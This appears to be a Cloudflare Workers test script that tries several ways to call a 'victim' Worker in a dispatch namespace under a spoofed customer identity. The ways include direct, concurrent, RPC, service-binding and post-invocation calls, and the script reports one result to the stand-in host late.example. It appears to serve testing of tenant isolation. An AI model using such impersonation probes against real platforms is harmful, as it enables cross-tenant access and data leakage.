// Invokes another Worker of the namespace, in another's name, in each way that it can think of.
const attempt = async (act) => {
  try {
    const answer = await act();
    return `reached ${answer.status}: ${await answer.text()}`;
  } catch (error) {
    return `refused: ${error.message}`;
  }
};
const invoke = (env) => env.DISPATCHER.get("victim", {}, { outbound: { customer: "stolen" } }).fetch("http://any/");

export default {
  async fetch(request, env, ctx) {
    // It is called by itself, with the ray of its own invocation: when this is over, so is that, or so it hopes.
    if (request.headers.has("x-again")) return new Response("again");
    const ray = request.headers.get("cf-ray");
    const outcomes = {
      "at once": await attempt(() => invoke(env)),
      "through a service binding": await attempt(() => env.HELPER.fetch("http://any/")),
      "two at once": (await Promise.all([attempt(() => invoke(env)), attempt(() => invoke(env))])).find((o) => o.startsWith("reached")) ?? "refused",
      "by RPC": await attempt(() => env.DISPATCHER.get("victim").fetched()),
    };
    await ctx.exports.default.fetch("http://any/", { headers: { "cf-ray": ray, "x-again": "1" } });
    await scheduler.wait(100);
    outcomes["after its invocation was ended by itself"] = await attempt(() => invoke(env));
    outcomes["through a service binding after that"] = await attempt(() => env.HELPER.fetch("http://any/"));
    ctx.waitUntil(
      (async () => {
        await scheduler.wait(100);
        const late = await attempt(() => invoke(env));
        await fetch(`https://late.example/${encodeURIComponent(late)}`);
      })(),
    );
    return Response.json(outcomes);
  },
};
